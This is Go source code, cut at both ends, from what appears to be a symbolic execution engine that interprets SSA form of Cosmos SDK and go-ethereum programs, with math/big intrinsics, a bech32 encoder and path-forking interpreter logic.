			return Tuple{a[0], true}
		}
		panic(unsupported("big.Int.SetString on non-constant"))
	})
	P.reg(B+"SetBytes", func(it *Interp, a []Value) Value {
		z := it.bigObj(a[0])
		if b, ok := a[1].(*BlobV); ok && b.Kind == "bigbytes" {
			z.V = b.V
			return a[0]
		}
		z.V = new(big.Int).SetBytes(it.concBytes(a[1]))
		return a[0]
	})
	P.reg(B+"Bytes", func(it *Interp, a []Value) Value {
		v := it.bigVal(a[0])
		if b, ok := v.(*big.Int); ok {
			return it.mkBytes(b.Bytes())
		}
		// the byte string of zero is empty
		if it.branchOn(mkCmp("=", v, big.NewInt(0))) {
			return it.mkBytes(nil)
		}
		return &BlobV{Kind: "bigbytes", V: mkAbs(v)}
	})
	P.reg(B+"Cmp", func(it *Interp, a []Value) Value { return mkCmp3(it.bigVal(a[0]), it.bigVal(a[1])) })
	P.reg(B+"CmpAbs", func(it *Interp, a []Value) Value {
		return mkCmp3(mkAbs(it.bigVal(a[0])), mkAbs(it.bigVal(a[1])))
	})
	P.reg(B+"Sign", func(it *Interp, a []Value) Value { return mkSign(it.bigVal(a[0])) })
	P.reg(B+"IsInt64", func(it *Interp, a []Value) Value {
		v := it.bigVal(a[0])
		return mkAnd(mkCmp(">=", v, i64lo), mkCmp("<=", v, i64hi))
	})
	P.reg(B+"IsUint64", func(it *Interp, a []Value) Value {
		v := it.bigVal(a[0])
		return mkAnd(mkCmp(">=", v, big.NewInt(0)), mkCmp("<=", v, u64hi))
	})
	P.reg(B+"Int64", func(it *Interp, a []Value) Value {
		v := it.bigVal(a[0])
		if b, ok := v.(*big.Int); ok {
			return big.NewInt(b.Int64())
		}
		// low 64 bits, two's complement (undefined in Go docs when it does not fit; this is what the implementation does)
		s := v.(*Sym)
		if within(s, i64lo, i64hi) {
			return s
		}
		return &Sym{S: SInt, T: "(wrapS " + s.T + " " + pow2(64).String() + ")", Lo: i64lo, Hi: i64hi}
	})
	P.reg(B+"Uint64", func(it *Interp, a []Value) Value {
		v := it.bigVal(a[0])
		if b, ok := v.(*big.Int); ok {
			return new(big.Int).SetUint64(b.Uint64())
		}
		s := v.(*Sym)
		if within(s, zero0, u64hi) {
			return s
		}
		// big.Int.Uint64 returns the low 64 bits of |x|
		return &Sym{S: SInt, T: "(wrapU (absI " + s.T + ") " + pow2(64).String() + ")", Lo: zero0, Hi: u64hi}
	})
	P.reg(B+"BitLen", func(it *Interp, a []Value) Value {
		v := it.bigVal(a[0])
		if b, ok := v.(*big.Int); ok {
			return big.NewInt(int64(b.BitLen()))
		}
		return BitLenV{V: v}
	})
	P.reg(B+"String", func(it *Interp, a []Value) Value {
		p := a[0].(*Ptr)
		if p == nil {
			return "<nil>"
		}
		v := it.bigVal(a[0])
		if b, ok := v.(*big.Int); ok {
			return b.String()
		}
		return symStrMark + "big"
	})
	P.reg(B+"Exp", func(it *Interp, a []Value) Value {
		z := it.bigObj(a[0])
		x, y := asBig(it.bigVal(a[1])), asBig(it.bigVal(a[2]))
		var m *big.Int
		if p, ok := a[3].(*Ptr); ok && p != nil {
			m = asBig(it.bigVal(a[3]))
		}
		z.V = new(big.Int).Exp(x, y, m)
		return a[0]
	})
	P.reg(B+"Lsh", func(it *Interp, a []Value) Value {
		z := it.bigObj(a[0])
		z.V = mkMul(it.bigVal(a[1]), pow2(int(asBig(a[2]).Int64())))
		return a[0]
	})
	P.reg(B+"Rsh", func(it *Interp, a []Value) Value {
		z := it.bigObj(a[0])
		z.V = mkDivE(it.bigVal(a[1]), pow2(int(asBig(a[2]).Int64())))
		return a[0]
	})
	P.reg(B+"Bit", func(it *Interp, a []Value) Value {
		v := asBig(it.bigVal(a[0]))
		return big.NewInt(int64(v.Bit(int(asBig(a[1]).Int64()))))
	})
	P.reg(B+"IsProbablyPrime", func(it *Interp, a []Value) Value { panic(unsupported("IsProbablyPrime")) })
	P.reg(B+"MarshalText", func(it *Interp, a []Value) Value {
		v := it.bigVal(a[0])
		if b, ok := v.(*big.Int); ok {
			bz, _ := b.MarshalText()
			return Tuple{it.mkBytes(bz), (*ErrV)(nil)}
		}
		return Tuple{&BlobV{Kind: "Int", V: v}, (*ErrV)(nil)}
	})
	// go-ethereum common/math helpers
	const gm = "github.com/ethereum/go-ethereum/common/math."
	P.reg(gm+"BigMax", func(it *Interp, a []Value) Value {
		x, y := it.bigVal(a[0]), it.bigVal(a[1])
		// returns one of the argument pointers: decide which
		if it.branchOn(mkCmp("<", x, y)) {
			return a[1]
		}
		return a[0]
	})
	P.reg(gm+"BigMin", func(it *Interp, a []Value) Value {
		x, y := it.bigVal(a[0]), it.bigVal(a[1])
		if it.branchOn(mkCmp(">", x, y)) {
			return a[1]
		}
		return a[0]
	})
}
