package gosym

// Real bech32 encoding (BIP-173) for the few places where the program compares an encoded address with a literal
// (sdk.Bech32ifyAddressBytes); AccAddress.String() and friends stay an injective renaming.

const bech32Charset = "qpzry9x8gf2tvdw0s3jn54khce6mua7l"

func bech32Polymod(values []byte) uint32 {
	gen := []uint32{0x3b6a57b2, 0x26508e6d, 0x1ea119fa, 0x3d4233dd, 0x2a1462b3}
	chk := uint32(1)
	for _, v := range values {
		top := chk >> 25
		chk = (chk&0x1ffffff)<<5 ^ uint32(v)
		for i := 0; i < 5; i++ {
			if (top>>uint(i))&1 == 1 {
				chk ^= gen[i]
			}
		}
	}
	return chk
}

func bech32Encode(hrp string, data []byte) string {
	// 8 -> 5 bit groups, padded
	var conv []byte
	acc, bits := uint32(0), uint(0)
	for _, b := range data {
		acc = acc<<8 | uint32(b)
		bits += 8
		for bits >= 5 {
			bits -= 5
			conv = append(conv, byte(acc>>bits)&31)
		}
	}
	if bits > 0 {
		conv = append(conv, byte(acc<<(5-bits))&31)
	}
	var exp []byte
	for i := 0; i < len(hrp); i++ {
		exp = append(exp, hrp[i]>>5)
	}
	exp = append(exp, 0)
	for i := 0; i < len(hrp); i++ {
		exp = append(exp, hrp[i]&31)
	}
	values := append(append(exp, conv...), 0, 0, 0, 0, 0, 0)
	mod := bech32Polymod(values) ^ 1
	out := hrp + "1"
	for _, c := range conv {
		out += string(bech32Charset[c])
	}
	for i := 0; i < 6; i++ {
		out += string(bech32Charset[(mod>>uint(5*(5-i)))&31])
	}
	return out
}
