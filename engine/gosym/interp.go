package gosym

import (
	"fmt"
	"os"
	"runtime"
	"runtime/debug"
	"go/constant"
	"go/token"
	"go/types"
	"math/big"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

// Frame is one activation record.
type Frame struct {
	fn        *ssa.Function
	env       map[ssa.Value]Value
	defers    []func()
	panicking *GoPanic
	recovered bool
	caller    *Frame
	pos       token.Pos
}

// Interp executes one path at a time; a fresh Interp state is built per path (re-execution based forking).
type Interp struct {
	P      *Program
	R      *Run
	solver *Solver

	// path-local state
	script    []string
	sent      int
	prefix    []int
	trace     []int
	forced    []bool
	globals   map[*ssa.Global]*Cell
	inited    map[*ssa.Package]bool
	initDepth int
	steps     int64
	symSeq    int
	cellSeq   int
	tagSeen   map[string]int
	anySyms   []anySym
	cur       *Frame
	depth     int
	recoverFr *Frame
	params    map[string]string
	denoms    []string
	allowPanic bool
	pathNotes []string
	observed  []obsTerm
	choices   map[string]string
	initStored map[*ssa.Global]bool
	initTouched map[*Cell]bool
	mapOrder  bool
	obligations, discharged, trivial int
	store     map[string]Value // scratch store for harness-level engine state (zzverif.Note etc.)
}

type anySym struct {
	Tag    string
	Name   string
	Sort   Sort
	Kind   string
	Lo, Hi *big.Int
}

func (it *Interp) newCell(v Value, name string) *Cell {
	it.cellSeq++
	return &Cell{V: v, Name: name, id: it.cellSeq}
}

// ---------------------------------------------------------------- zero values

func namedIs(t types.Type, pkg, name string) bool {
	n, ok := t.(*types.Named)
	if !ok {
		return false
	}
	o := n.Obj()
	return o.Name() == name && o.Pkg() != nil && o.Pkg().Path() == pkg
}

const mathPkg = "cosmossdk.io/math"
const sdkPkg = "github.com/cosmos/cosmos-sdk/types"

var zeroTimeNS = func() *big.Int {
	b := big.NewInt(-62135596800)
	return b.Mul(b, big.NewInt(1000000000))
}()

func theoryZero(t types.Type) (Value, bool) {
	t = types.Unalias(t)
	n, ok := t.(*types.Named)
	if !ok {
		return nil, false
	}
	o := n.Obj()
	if o.Pkg() == nil {
		return nil, false
	}
	switch o.Pkg().Path() {
	case mathPkg:
		switch o.Name() {
		case "Int":
			return IntV{Nil: true, V: big.NewInt(0)}, true
		case "LegacyDec":
			return DecV{Nil: true, V: big.NewInt(0)}, true
		case "Uint":
			return UintV{Nil: true, V: big.NewInt(0)}, true
		}
	case "math/big":
		if o.Name() == "Int" {
			return &BigV{V: big.NewInt(0)}, true
		}
	case "time":
		if o.Name() == "Time" {
			return TimeV{NS: zeroTimeNS}, true
		}
	}
	return nil, false
}

func (it *Interp) zero(t types.Type) Value {
	t = types.Unalias(t)
	if v, ok := theoryZero(t); ok {
		return v
	}
	switch u := t.Underlying().(type) {
	case *types.Basic:
		switch {
		case u.Info()&types.IsBoolean != 0:
			return false
		case u.Info()&types.IsInteger != 0:
			return big.NewInt(0)
		case u.Info()&types.IsString != 0:
			return ""
		case u.Info()&types.IsFloat != 0:
			return float64(0)
		case u.Kind() == types.UnsafePointer:
			return (*Ptr)(nil)
		case u.Kind() == types.UntypedNil:
			return nil
		}
		panic(unsupported("zero of basic " + u.String()))
	case *types.Pointer:
		return (*Ptr)(nil)
	case *types.Slice:
		return &SliceV{}
	case *types.Map:
		return (*MapV)(nil)
	case *types.Signature:
		return (*FuncV)(nil)
	case *types.Interface:
		return (*IfaceV)(nil)
	case *types.Chan:
		return nil
	case *types.Struct:
		s := &StructV{T: t, Fields: make([]Value, u.NumFields())}
		for i := 0; i < u.NumFields(); i++ {
			s.Fields[i] = it.zero(u.Field(i).Type())
		}
		return s
	case *types.Array:
		a := &ArrayV{Elems: make([]Value, u.Len())}
		for i := range a.Elems {
			a.Elems[i] = it.zero(u.Elem())
		}
		return a
	case *types.Tuple:
		tu := make(Tuple, u.Len())
		for i := range tu {
			tu[i] = it.zero(u.At(i).Type())
		}
		return tu
	case *types.TypeParam:
		panic(unsupported("zero of type parameter"))
	}
	panic(unsupported("zero of " + t.String()))
}

// ---------------------------------------------------------------- memory

func (it *Interp) nilDeref() {
	panic(&GoPanic{Msg: "runtime error: invalid memory address or nil pointer dereference"})
}

func (it *Interp) load(p *Ptr) Value {
	if p == nil {
		it.nilDeref()
	}
	v := p.C.V
	for _, i := range p.Path {
		switch x := v.(type) {
		case *StructV:
			v = x.Fields[i]
		case *ArrayV:
			if i >= len(x.Elems) {
				panic(&GoPanic{Msg: "runtime error: index out of range"})
			}
			v = x.Elems[i]
		case PoisonV:
			return x
		default:
			panic(unsupported(fmt.Sprintf("load through %T", v)))
		}
	}
	return v
}

func (it *Interp) storeTo(p *Ptr, val Value) {
	if p == nil {
		it.nilDeref()
	}
	if len(p.Path) == 0 {
		// storing a big.Int by value into a big.Int cell keeps object identity
		p.C.V = val
		return
	}
	v := p.C.V
	for k, i := range p.Path {
		last := k == len(p.Path)-1
		switch x := v.(type) {
		case *StructV:
			if last {
				x.Fields[i] = val
				return
			}
			v = x.Fields[i]
		case *ArrayV:
			if i >= len(x.Elems) {
				panic(&GoPanic{Msg: "runtime error: index out of range"})
			}
			if last {
				x.Elems[i] = val
				return
			}
			v = x.Elems[i]
		default:
			panic(unsupported(fmt.Sprintf("store through %T", v)))
		}
	}
}

// ---------------------------------------------------------------- constants / operands

func (it *Interp) constVal(c *ssa.Const) Value {
	if c.Value == nil {
		return it.zero(c.Type())
	}
	t := types.Unalias(c.Type())
	if b, ok := t.Underlying().(*types.Basic); ok {
		switch {
		case b.Info()&types.IsBoolean != 0:
			return constant.BoolVal(c.Value)
		case b.Info()&types.IsString != 0:
			return constant.StringVal(c.Value)
		case b.Info()&types.IsInteger != 0:
			v := constant.ToInt(c.Value)
			switch x := constant.Val(v).(type) {
			case int64:
				return big.NewInt(x)
			case *big.Int:
				return new(big.Int).Set(x)
			}
		case b.Info()&types.IsFloat != 0:
			f, _ := constant.Float64Val(constant.ToFloat(c.Value))
			return f
		}
	}
	if _, ok := t.Underlying().(*types.TypeParam); ok {
		panic(unsupported("const of type param"))
	}
	panic(unsupported("const " + c.String()))
}

func (it *Interp) get(fr *Frame, v ssa.Value) Value {
	switch x := v.(type) {
	case *ssa.Const:
		return it.constVal(x)
	case *ssa.Global:
		return &Ptr{C: it.globalCell(x)}
	case *ssa.Function:
		return &FuncV{Fn: x}
	case *ssa.Builtin:
		return &FuncV{Name: "builtin:" + x.Name()}
	}
	val, ok := fr.env[v]
	if !ok {
		panic(unsupported(fmt.Sprintf("value %s (%T) not in env of %s", v.Name(), v, fr.fn)))
	}
	return val
}

func (it *Interp) globalCell(g *ssa.Global) *Cell {
	if c, ok := it.globals[g]; ok {
		return c
	}
	elem := g.Type().(*types.Pointer).Elem()
	c := it.newCell(it.zero(elem), g.String())
	it.globals[g] = c
	if g.Pkg != nil {
		it.ensureInit(g.Pkg)
	}
	return c
}

// ensureInit runs a package initializer in best-effort mode: nested initializers of
// other packages are skipped (they run lazily when their globals are touched), and
// anything the engine cannot execute yields a poison value.
func (it *Interp) ensureInit(pkg *ssa.Package) {
	if it.inited[pkg] {
		return
	}
	it.inited[pkg] = true
	initFn := pkg.Func("init")
	if initFn == nil {
		return
	}
	pkg.Build()
	// pre-create cells of all globals of the package so that an aborted init can poison the rest
	it.initDepth++
	saveCur := it.cur
	stored := map[*ssa.Global]bool{}
	func() {
		defer func() {
			if r := recover(); r != nil {
				switch r.(type) {
				case *Unsupported, *GoPanic, *pathEnd:
					if os.Getenv("VERIF_DEBUG") != "" {
						fmt.Fprintf(os.Stderr, "init of %s aborted: %v\n", pkg.Pkg.Path(), r)
						if u, ok := r.(*Unsupported); ok {
							fmt.Fprintf(os.Stderr, "   %s\n", strings.Join(u.Stack, "\n   "))
						}
					}
					// abort: poison globals of this package that init had not reached
					for _, m := range pkg.Members {
						if g, ok := m.(*ssa.Global); ok && !stored[g] && !strings.HasPrefix(g.Name(), "init$") {
							why := PoisonV{Why: fmt.Sprintf("init of %s aborted: %v", pkg.Pkg.Path(), r)}
							if c, ok := it.globals[g]; ok {
								c.V = why
							} else {
								it.globals[g] = it.newCell(why, g.String())
							}
						}
					}
				default:
					panic(r)
				}
			}
		}()
		saveStored := it.initStored
		it.initStored = stored
		defer func() { it.initStored = saveStored }()
		it.cur = nil
		it.callFunction(initFn, nil, nil, nil)
	}()
	it.cur = saveCur
	it.initDepth--
	if os.Getenv("VERIF_DEBUG") != "" {
		fmt.Fprintf(os.Stderr, "init %s done, steps now %d\n", pkg.Pkg.Path(), it.steps)
	}
}


// ---------------------------------------------------------------- calling

const maxDepth = 400

func (it *Interp) callFunction(fn *ssa.Function, args []Value, bindings []Value, site ssa.CallInstruction) (ret Value) {
	name := fn.String()
	// package initializers of other packages are skipped while initialising (lazy init)
	if it.initDepth > 0 && fn.Name() == "init" && fn.Synthetic != "" && it.cur != nil && it.cur.fn.Pkg != fn.Pkg {
		return nil
	}
	if h, ok := it.P.lookupIntrinsic(fn, name); ok {
		return h(it, args)
	}
	if it.R != nil && it.R.Fn != nil && it.R.Fn.Pkg != nil {
		if ov := it.P.override(name, it.R.Fn.Pkg.Pkg.Path(), it.R.Fn.Name()); ov != nil {
			return it.callFunction(ov, args, nil, site)
		}
	}
	it.P.noteFunc(it.R, fn)
	if fn.Blocks == nil {
		if fn.Pkg != nil {
			fn.Pkg.Build()
		}
		if o := fn.Origin(); o != nil && o.Pkg != nil && fn.Blocks == nil {
			o.Pkg.Build()
		}
		if fn.Blocks == nil {
			panic(unsupported("call of function without body: " + name))
		}
	}
	it.depth++
	if it.depth > maxDepth {
		panic(unsupported("call depth exceeded at " + name))
	}
	fr := &Frame{fn: fn, env: make(map[ssa.Value]Value, 16), caller: it.cur}
	for i, p := range fn.Params {
		if i < len(args) {
			fr.env[p] = args[i]
		}
	}
	for i, fv := range fn.FreeVars {
		fr.env[fv] = bindings[i]
	}
	save := it.cur
	it.cur = fr
	defer func() {
		it.cur = save
		it.depth--
	}()
	return it.runFrame(fr)
}

func (it *Interp) runFrame(fr *Frame) (ret Value) {
	defer func() {
		if r := recover(); r != nil {
			if re, ok := r.(runtime.Error); ok {
				// a bug of the executor itself: never a verdict, report as unsupported with the Go stack
				st := string(debug.Stack())
				if len(st) > 3000 {
					st = st[:3000]
				}
				r = &Unsupported{Msg: "internal executor error: " + re.Error() + "\n" + st}
			}
			gp, ok := r.(*GoPanic)
			if !ok {
				if u, ok := r.(*Unsupported); ok && len(u.Stack) < 12 {
					u.Stack = append(u.Stack, fmt.Sprintf("%s @ %s", fr.fn, it.P.Fset.Position(fr.pos)))
				}
				panic(r)
			}
			// Go panic: run deferred calls
			if gp.Where == "" {
				gp.Where = fmt.Sprintf("%s (%s)", fr.fn, it.P.Fset.Position(fr.pos))
			}
			fr.panicking = gp
			it.runDefers(fr)
			if fr.panicking != nil {
				panic(fr.panicking)
			}
			// recovered
			if fr.fn.Recover != nil {
				ret = it.execFrom(fr, fr.fn.Recover, nil)
				return
			}
			ret = it.zeroResults(fr.fn)
		}
	}()
	return it.execFrom(fr, fr.fn.Blocks[0], nil)
}

func (it *Interp) zeroResults(fn *ssa.Function) Value {
	res := fn.Signature.Results()
	switch res.Len() {
	case 0:
		return nil
	case 1:
		return it.zero(res.At(0).Type())
	}
	return it.zero(res)
}

func (it *Interp) runDefers(fr *Frame) {
	for len(fr.defers) > 0 {
		d := fr.defers[len(fr.defers)-1]
		fr.defers = fr.defers[:len(fr.defers)-1]
		saveRF := it.recoverFr
		it.recoverFr = fr
		func() {
			defer func() { it.recoverFr = saveRF }()
			d()
		}()
	}
}

func (it *Interp) execFrom(fr *Frame, block *ssa.BasicBlock, prev *ssa.BasicBlock) Value {
	for {
		var next *ssa.BasicBlock
		for _, ins := range block.Instrs {
			it.steps++
			if it.steps > it.R.MaxSteps {
				panic(&pathEnd{why: "BOUND-EXCEEDED: step budget"})
			}
			if p := ins.Pos(); p.IsValid() {
				fr.pos = p
			}
			switch x := ins.(type) {
			case *ssa.Phi:
				for i, pred := range block.Preds {
					if pred == prev {
						fr.env[x] = it.get(fr, x.Edges[i])
						break
					}
				}
			case *ssa.Jump:
				next = block.Succs[0]
			case *ssa.If:
				c := it.get(fr, x.Cond)
				if it.branch(c, fr) {
					next = block.Succs[0]
				} else {
					next = block.Succs[1]
				}
			case *ssa.Return:
				switch len(x.Results) {
				case 0:
					return nil
				case 1:
					return it.get(fr, x.Results[0])
				}
				tu := make(Tuple, len(x.Results))
				for i, r := range x.Results {
					tu[i] = it.get(fr, r)
				}
				return tu
			case *ssa.Panic:
				v := it.get(fr, x.X)
				panic(&GoPanic{V: v, Msg: it.panicString(v)})
			default:
				if it.initDepth > 0 {
					it.execInit(fr, ins)
				} else {
					it.exec(fr, ins)
				}
			}
		}
		if next == nil {
			panic(unsupported("block without terminator in " + fr.fn.String()))
		}
		prev, block = block, next
	}
}

func (it *Interp) panicString(v Value) string {
	switch x := v.(type) {
	case *IfaceV:
		if x == nil {
			return "nil"
		}
		return it.panicString(x.V)
	case string:
		return x
	case *ErrV:
		if x == nil {
			return "nil error"
		}
		return x.Root + ": " + x.Msg
	case *big.Int:
		return x.String()
	}
	return fmt.Sprintf("%T", v)
}

// execInit executes one instruction during package init; unsupported operations poison the result.
func (it *Interp) execInit(fr *Frame, ins ssa.Instruction) {
	defer func() {
		if r := recover(); r != nil {
			var why string
			switch e := r.(type) {
			case *Unsupported:
				why = e.Msg
			case *GoPanic:
				why = "panic: " + e.Msg
			default:
				panic(r)
			}
			if v, ok := ins.(ssa.Value); ok {
				fr.env[v] = PoisonV{Why: why}
				return
			}
			if st, ok := ins.(*ssa.Store); ok {
				// store of/through something unsupported: poison the target if it is a global
				if g, ok := st.Addr.(*ssa.Global); ok {
					it.globalCell(g).V = PoisonV{Why: why}
				}
				return
			}
		}
	}()
	if st, ok := ins.(*ssa.Store); ok {
		if g, ok := st.Addr.(*ssa.Global); ok && it.initStored != nil {
			it.initStored[g] = true
		}
	}
	it.exec(fr, ins)
}

func isPoison(v Value) bool { _, ok := v.(PoisonV); return ok }

func (it *Interp) checkPoison(v Value) {
	if p, ok := v.(PoisonV); ok {
		panic(unsupported("poison value used: " + p.Why))
	}
}

// ---------------------------------------------------------------- instructions

func (it *Interp) exec(fr *Frame, ins ssa.Instruction) {
	switch x := ins.(type) {
	case *ssa.DebugRef:
	case *ssa.Alloc:
		elem := x.Type().(*types.Pointer).Elem()
		fr.env[x] = &Ptr{C: it.newCell(it.zero(elem), x.Comment)}
	case *ssa.Store:
		addr := it.get(fr, x.Addr)
		it.checkPoison(addr)
		p, ok := addr.(*Ptr)
		if !ok {
			panic(unsupported(fmt.Sprintf("store to %T", addr)))
		}
		it.storeTo(p, copyVal(it.get(fr, x.Val)))
	case *ssa.UnOp:
		fr.env[x] = it.unop(fr, x)
	case *ssa.BinOp:
		a, b := it.get(fr, x.X), it.get(fr, x.Y)
		fr.env[x] = it.binop(x.Op, a, b, x.X.Type(), x.Type())
	case *ssa.Call:
		fr.env[x] = it.doCall(fr, x, &x.Call)
	case *ssa.Defer:
		it.doDefer(fr, x)
	case *ssa.RunDefers:
		it.runDefers(fr)
	case *ssa.Go:
		panic(unsupported("go statement"))
	case *ssa.ChangeInterface:
		fr.env[x] = it.get(fr, x.X)
	case *ssa.ChangeType:
		fr.env[x] = it.changeType(it.get(fr, x.X), x.X.Type(), x.Type())
	case *ssa.Convert:
		fr.env[x] = it.convert(it.get(fr, x.X), x.X.Type(), x.Type())
	case *ssa.MultiConvert:
		fr.env[x] = it.convert(it.get(fr, x.X), x.X.Type(), x.Type())
	case *ssa.Extract:
		tu := it.get(fr, x.Tuple)
		it.checkPoison(tu)
		fr.env[x] = tu.(Tuple)[x.Index]
	case *ssa.Field:
		s := it.get(fr, x.X)
		it.checkPoison(s)
		sv, ok := s.(*StructV)
		if !ok {
			panic(unsupported(fmt.Sprintf("field %d of %T (%s)", x.Field, s, x.X.Type())))
		}
		fr.env[x] = sv.Fields[x.Field]
	case *ssa.FieldAddr:
		pv := it.get(fr, x.X)
		it.checkPoison(pv)
		p := pv.(*Ptr)
		if p == nil {
			it.nilDeref()
		}
		np := &Ptr{C: p.C, Path: append(append([]int{}, p.Path...), x.Field)}
		fr.env[x] = np
	case *ssa.Index:
		fr.env[x] = it.index(fr, x)
	case *ssa.IndexAddr:
		fr.env[x] = it.indexAddr(fr, x)
	case *ssa.Slice:
		fr.env[x] = it.sliceOp(fr, x)
	case *ssa.MakeSlice:
		n := it.concInt(it.get(fr, x.Len), "make len")
		c := it.concInt(it.get(fr, x.Cap), "make cap")
		elem := x.Type().Underlying().(*types.Slice).Elem()
		arr := &ArrayV{Elems: make([]Value, c)}
		for i := range arr.Elems {
			arr.Elems[i] = it.zero(elem)
		}
		fr.env[x] = &SliceV{Arr: it.newCell(arr, "makeslice"), Len: n, Cap: c}
	case *ssa.MakeMap:
		it.cellSeq++
		fr.env[x] = &MapV{M: map[string]*mapEntry{}, id: it.cellSeq}
	case *ssa.MapUpdate:
		m := it.get(fr, x.Map)
		it.checkPoison(m)
		mv := m.(*MapV)
		if mv == nil {
			panic(&GoPanic{Msg: "assignment to entry in nil map"})
		}
		k := it.get(fr, x.Key)
		ks := keyString(k)
		if e, ok := mv.M[ks]; ok {
			e.V = copyVal(it.get(fr, x.Value))
		} else {
			mv.M[ks] = &mapEntry{K: k, V: copyVal(it.get(fr, x.Value))}
			mv.Keys = append(mv.Keys, ks)
		}
	case *ssa.Lookup:
		fr.env[x] = it.lookup(fr, x)
	case *ssa.Range:
		fr.env[x] = it.rangeOp(fr, x)
	case *ssa.Next:
		iter := it.get(fr, x.Iter).(*iterV)
		fr.env[x] = iter.next(it)
	case *ssa.MakeClosure:
		fn := x.Fn.(*ssa.Function)
		b := make([]Value, len(x.Bindings))
		for i, bv := range x.Bindings {
			b[i] = it.get(fr, bv)
		}
		fr.env[x] = &FuncV{Fn: fn, Bindings: b}
	case *ssa.MakeInterface:
		v := it.get(fr, x.X)
		if e, ok := v.(*ErrV); ok {
			fr.env[x] = e
		} else {
			fr.env[x] = &IfaceV{T: x.X.Type(), V: v}
		}
	case *ssa.TypeAssert:
		fr.env[x] = it.typeAssert(fr, x)
	case *ssa.SliceToArrayPointer:
		s := it.get(fr, x.X).(*SliceV)
		n := int(x.Type().(*types.Pointer).Elem().Underlying().(*types.Array).Len())
		if s.Len < n {
			panic(&GoPanic{Msg: "slice to array pointer: length too short"})
		}
		// only supported when the slice covers its array from offset 0
		if s.Off != 0 {
			arr := &ArrayV{Elems: make([]Value, n)}
			copy(arr.Elems, s.Arr.V.(*ArrayV).Elems[s.Off:s.Off+n])
			fr.env[x] = &Ptr{C: it.newCell(arr, "s2ap")}
		} else {
			fr.env[x] = &Ptr{C: s.Arr}
		}
	default:
		panic(unsupported(fmt.Sprintf("instruction %T: %s", ins, ins)))
	}
}

func (it *Interp) concInt(v Value, what string) int {
	it.checkPoison(v)
	b, ok := v.(*big.Int)
	if !ok {
		panic(unsupported("symbolic " + what))
	}
	return int(b.Int64())
}

func (it *Interp) unop(fr *Frame, x *ssa.UnOp) Value {
	v := it.get(fr, x.X)
	switch x.Op {
	case token.MUL:
		it.checkPoison(v)
		p, ok := v.(*Ptr)
		if !ok {
			panic(unsupported(fmt.Sprintf("load from %T", v)))
		}
		return copyVal(it.load(p))
	case token.NOT:
		it.checkPoison(v)
		return mkNot(v)
	case token.SUB:
		it.checkPoison(v)
		if f, ok := v.(float64); ok {
			return -f
		}
		return it.normInt(mkNeg(v), x.Type())
	case token.XOR:
		b := asBig(v)
		return it.normInt(new(big.Int).Not(b), x.Type())
	case token.ARROW:
		panic(unsupported("channel receive"))
	}
	panic(unsupported("unop " + x.Op.String()))
}

func basicOf(t types.Type) *types.Basic {
	b, _ := types.Unalias(t).Underlying().(*types.Basic)
	return b
}

func intRange(b *types.Basic) (bits int, signed bool) {
	switch b.Kind() {
	case types.Int8:
		return 8, true
	case types.Int16:
		return 16, true
	case types.Int32:
		return 32, true
	case types.Int64, types.Int:
		return 64, true
	case types.Uint8:
		return 8, false
	case types.Uint16:
		return 16, false
	case types.Uint32:
		return 32, false
	case types.Uint64, types.Uint, types.Uintptr:
		return 64, false
	case types.UntypedInt, types.UntypedRune:
		return 0, true
	}
	return 0, true
}

// normInt wraps an integer result to the range of Go type t (exact Go semantics).
func (it *Interp) normInt(v Value, t types.Type) Value {
	b := basicOf(t)
	if b == nil || b.Info()&types.IsInteger == 0 {
		return v
	}
	bits, signed := intRange(b)
	if bits == 0 {
		return v
	}
	if c, ok := v.(*big.Int); ok {
		return wrapBig(c, bits, signed)
	}
	s := v.(*Sym)
	var lo, hi *big.Int
	if signed {
		lo = new(big.Int).Neg(pow2(bits - 1))
		hi = new(big.Int).Sub(pow2(bits-1), big.NewInt(1))
	} else {
		lo = big.NewInt(0)
		hi = new(big.Int).Sub(pow2(bits), big.NewInt(1))
	}
	if within(s, lo, hi) {
		return s
	}
	// ask the solver whether the value can leave the range
	named := it.nameTerm(s)
	out := mkOr(mkCmp("<", named, lo), mkCmp(">", named, hi))
	if !it.feasible(out) {
		return withRange(named, lo, hi)
	}
	it.R.note("wrap-around reachable at " + it.where())
	if signed {
		return &Sym{S: SInt, T: "(wrapS " + named.T + " " + pow2(bits).String() + ")", Lo: lo, Hi: hi}
	}
	return &Sym{S: SInt, T: "(wrapU " + named.T + " " + pow2(bits).String() + ")", Lo: lo, Hi: hi}
}

func wrapBig(c *big.Int, bits int, signed bool) *big.Int {
	m := pow2(bits)
	r := new(big.Int).Mod(c, m)
	if signed && r.Cmp(pow2(bits-1)) >= 0 {
		r.Sub(r, m)
	}
	return r
}

func (it *Interp) where() string {
	if it.cur == nil {
		return "?"
	}
	return fmt.Sprintf("%s (%s)", it.cur.fn, it.P.Fset.Position(it.cur.pos))
}

func (it *Interp) binop(op token.Token, a, b Value, opndT, resT types.Type) Value {
	it.checkPoison(a)
	it.checkPoison(b)
	if bl, ok := a.(BitLenV); ok {
		return cmpBitLen(op, bl, asBig(b), false)
	}
	if bl, ok := b.(BitLenV); ok {
		return cmpBitLen(op, bl, asBig(a), true)
	}
	bt := basicOf(opndT)
	if bt != nil && bt.Info()&types.IsInteger != 0 {
		switch op {
		case token.ADD:
			return it.normInt(mkAdd(a, b), resT)
		case token.SUB:
			return it.normInt(mkSub(a, b), resT)
		case token.MUL:
			return it.normInt(mkMul(a, b), resT)
		case token.QUO, token.REM:
			if c, ok := b.(*big.Int); ok {
				if c.Sign() == 0 {
					panic(&GoPanic{Msg: "runtime error: integer divide by zero"})
				}
			} else if it.branchOn(mkCmp("=", b, big.NewInt(0))) {
				panic(&GoPanic{Msg: "runtime error: integer divide by zero"})
			}
			if op == token.QUO {
				return it.normInt(mkQuoT(a, b), resT)
			}
			return it.normInt(mkRemT(a, b), resT)
		case token.EQL:
			return mkCmp("=", a, b)
		case token.NEQ:
			return mkCmp("!=", a, b)
		case token.LSS:
			return mkCmp("<", a, b)
		case token.LEQ:
			return mkCmp("<=", a, b)
		case token.GTR:
			return mkCmp(">", a, b)
		case token.GEQ:
			return mkCmp(">=", a, b)
		case token.SHL:
			sh := asBig(b)
			if c, ok := a.(*big.Int); ok {
				return it.normInt(new(big.Int).Lsh(c, uint(sh.Uint64())), resT)
			}
			return it.normInt(mkMul(a, pow2(int(sh.Int64()))), resT)
		case token.SHR:
			sh := asBig(b)
			if c, ok := a.(*big.Int); ok {
				return it.normInt(new(big.Int).Rsh(c, uint(sh.Uint64())), resT)
			}
			return mkDivE(a, pow2(int(sh.Int64())))
		case token.AND, token.OR, token.XOR, token.AND_NOT:
